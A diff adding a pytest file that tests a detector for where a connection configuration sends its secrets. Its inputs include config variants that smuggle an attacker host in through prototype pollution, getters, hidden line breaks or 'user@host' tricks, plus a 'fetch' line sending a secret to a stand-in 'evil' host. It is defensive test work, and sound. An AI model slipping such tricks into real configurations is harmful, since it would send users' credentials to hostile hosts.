@@ -1,0 +1,134 @@
+"""Where a connection sends its secrets: what counts as another destination, and what is said of it."""
+
+import pytest
+
+from flows.content import Kind
+from flows.destinations import DEVELOPMENT, PRODUCTION, SecretUse, secret_uses
+from flows.secret_uses import EVERY
+
+BEFORE = "{ host: 'db.example.com', port: 5432, user: 'app', timeout: 30, password: secrets.DB }"
+
+
+def uses(dev: str | None, prod: str | None = "", type_: str = "Postgres") -> frozenset[SecretUse]:
+    content = {"type": type_, "dev_value": dev, "prod_value": prod}
+    return secret_uses(Kind.CONNECTION, "a uuid", content)
+
+
+def destination(dev: str, type_: str = "Postgres"):
+    """The one destination of a development value's secrets."""
+    (found,) = {use.destination for use in uses(dev, "{}", type_)}
+    return found
+
+
+@pytest.mark.parametrize(
+    "new",
+    [
+        ("'db.example.com'", "'evil.example.com'"),
+        ("5432", "6432"),
+        ("5432", "'5432'x"),
+        ("'app'", "'root'"),
+        ("host:", "hostName:"),
+        ("port: 5432", "port: 5432, proxy: 'evil'"),
+        ("port: 5432", "port: 5432, ssl: { rejectUnauthorized: false }"),
+        ("port: 5432", "port: 5432, __proto__: { host: 'evil' }"),
+        ("'db.example.com'", "`${'evil'}`"),
+        ("'db.example.com'", "'good.com@evil.com'"),
+        ("'db.example.com'", "'db.example.com' + x"),
+        ("'db.example.com'", "env.HOST"),
+        ("'db.example.com'", "'db\\x2eexample.com'"),
+        ("port: 5432", "...overrides"),
+        ("port: 5432", "['ho' + 'st']: 'evil'"),
+        ("port: 5432", "port: 5432, host: 'evil'"),
+        ("port: 5432", "get host() { return 'evil' }"),
+        ("port: 5432", "port: 5432 // \r, host: 'evil'\n"),
+        ("port: 5432", "port: 5432 // \u2028, host: 'evil'\n"),
+        # Under a key that sounds harmless, what could be an address is none the less one.
+        ("timeout: 30", "timeout: 'evil.example.com'"),
+        ("timeout: 30", "timeout: 30, retryUrl: 'http://evil'"),
+        ("timeout: 30", "timeout: 30, maxHost: 'evil'"),
+        ("timeout: 30", "timeout: 30, comment: 'http://evil'"),
+        ("timeout: 30", "timeout: 30, label: `${secrets.DB}`"),
+    ],
+    ids=" to ".join,
+)
+def test_another_destination(new: tuple[str, str]) -> None:
+    after = BEFORE.replace(*new)
+    assert after != BEFORE
+    assert destination(after) != destination(BEFORE)
+
+
+@pytest.mark.parametrize(
+    "after",
+    [
+        BEFORE.replace("30", "60"),
+        BEFORE.replace("timeout: 30, ", ""),
+        BEFORE.replace("timeout: 30", "timeout: 30, retries: 3, keepAlive: true, poolSize: 5"),
+        BEFORE.replace("timeout: 30", "timeout: 30, comment: 'the usual one', timeZone: 'Europe/Rome'"),
+        BEFORE.replace("port: 5432,", "port: 5432, // the usual port\n"),
+        BEFORE.replace("'db.example.com'", '"db.example.com"'),
+        BEFORE.replace("{ ", "{\n  ").replace(" }", ",\n}"),
+        "{ port: 5432, host: 'db.example.com', user: 'app', password: secrets.DB }",
+    ],
+)  # fmt: skip
+def test_the_same_destination(after: str) -> None:
+    assert destination(after) == destination(BEFORE)
+
+
+def test_another_type_is_another_destination() -> None:
+    assert destination(BEFORE, "Postgres") != destination(BEFORE, "SqlServer")
+
+
+def test_production_uses_the_development_value_where_it_has_none() -> None:
+    for empty in ("", None):
+        assert {use.environment for use in uses(BEFORE, empty)} == {DEVELOPMENT, PRODUCTION}
+    assert {use.environment for use in uses(BEFORE, "{ host: 'x' }")} == {DEVELOPMENT}
+    assert {use.environment for use in uses("{}", BEFORE)} == {PRODUCTION}
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["postgres://u:${secrets.DB}@db", "fetch('//evil?' + secrets.DB)", "{ a: x }", "{ a: [ }", "({})", "{} {}"],
+)  # fmt: skip
+def test_what_is_no_plain_object_may_send_every_secret_anywhere(text: str) -> None:
+    assert {use.secret for use in uses(text)} == {EVERY}
+    assert {use.destination.label for use in uses(text)} == {"unknown"}
+    assert {use.destination for use in uses(text)} != {use.destination for use in uses(f"{text} ")}
+
+
+def test_a_template_may_name_secrets() -> None:
+    assert {use.secret for use in uses("{ header: `Bearer ${secrets.A} ${ secrets.B }` }")} == {
+        "A",
+        "B",
+    }
+    assert {use.secret for use in uses("{ header: `Bearer ${secrets.A + x}` }")} == {EVERY}
+
+
+@pytest.mark.parametrize(
+    ("text", "label"),
+    [
+        ("{ k: secrets.A, host: 'db.example.com', port: 5432 }", "db.example.com:5432"),
+        ("{ k: secrets.A, url: 'https://u:hunter2@a.example.com/path?token=x' }", "https://(not shown)"),
+        ("{ k: secrets.A, url: 'https://a.example.com:8443/path?token=x#y' }", "https://a.example.com:8443"),
+        ("{ k: secrets.A, host: 'u:hunter2@a' }", "(not shown)"),
+        ("{ k: secrets.A, a: { host: 'b' }, host: 'a' }", "a, b"),
+        ("{ k: secrets.A }", "Twilio"),
+        ("{ k: secrets.A, host: 'a\u202eb' }", "a?b"),
+    ],
+)  # fmt: skip
+def test_a_destination_says_its_hosts_and_no_credential(text: str, label: str) -> None:
+    assert {use.destination.label for use in uses(text, type_="Twilio")} == {label}
+
+
+def test_deep_and_long_texts_are_read_in_bounded_time() -> None:
+    deep = "{ a: " * 5000 + "1" + " }" * 5000
+    assert {use.secret for use in uses(deep)} == {EVERY}
+    long = "{ k: secrets.DB, a: '" + "x" * 1_000_000 + "' }"
+    assert destination(long) != destination(long.replace("a:", "b:"))
+    unfinished = "/*" * 100_000 + "'" * 99_999
+    assert {use.secret for use in uses(unfinished)} == {EVERY}
+    key = "{ " + "timeout" * 100_000 + "x: 1, k: secrets.DB }"
+    assert {use.secret for use in uses(key)} == {"DB"}
+
+
+def test_a_connection_without_secrets_sends_none() -> None:
+    assert uses("{ host: 'a' }") == uses("", None) == uses(None, "  ") == frozenset()
